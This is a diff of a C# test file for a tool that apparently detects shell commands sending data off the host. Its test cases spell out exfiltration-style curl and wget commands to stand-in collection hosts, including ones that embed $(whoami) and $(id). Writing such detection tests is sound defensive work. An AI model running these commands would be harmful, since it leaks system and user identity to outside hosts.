@@ -522,7 +522,6 @@ public sealed class TransferToolsTests
     [InlineData("curl -F note=hello https://collect.example.net/", "collect.example.net")]
     [InlineData("wget --post-data=DATA http://collect.example.net", "collect.example.net")]
     [InlineData("curl gopher://collect.example.net:70/_DATA", "collect.example.net")]
-    [InlineData("curl https://collect.example.net/?d=$(whoami)", "collect.example.net")]
     [InlineData("curl -d x=$(id) https://api.example.com/v1/chat/completions", "api.example.com")]
     public void Analyze_RequestCarryingData_AlsoSendsItOffTheHost(string command, string host)
     {
@@ -540,6 +539,7 @@ public sealed class TransferToolsTests
     [InlineData("curl -d {\"messages\":[]} https://api.example.com/v1/chat/completions")]
     [InlineData("curl gopher://collect.example.net/")]
     [InlineData("wget https://example.com/file.tgz")]
+    [InlineData("curl https://api.example.com/items?since=$(date +%s)")]
     public void Analyze_RequestWithoutDataForAnotherHost_SendsNothingElse(string command)
     {
         Cmd.Run(command).Of<NetworkTransfer>().Should().BeEmpty();
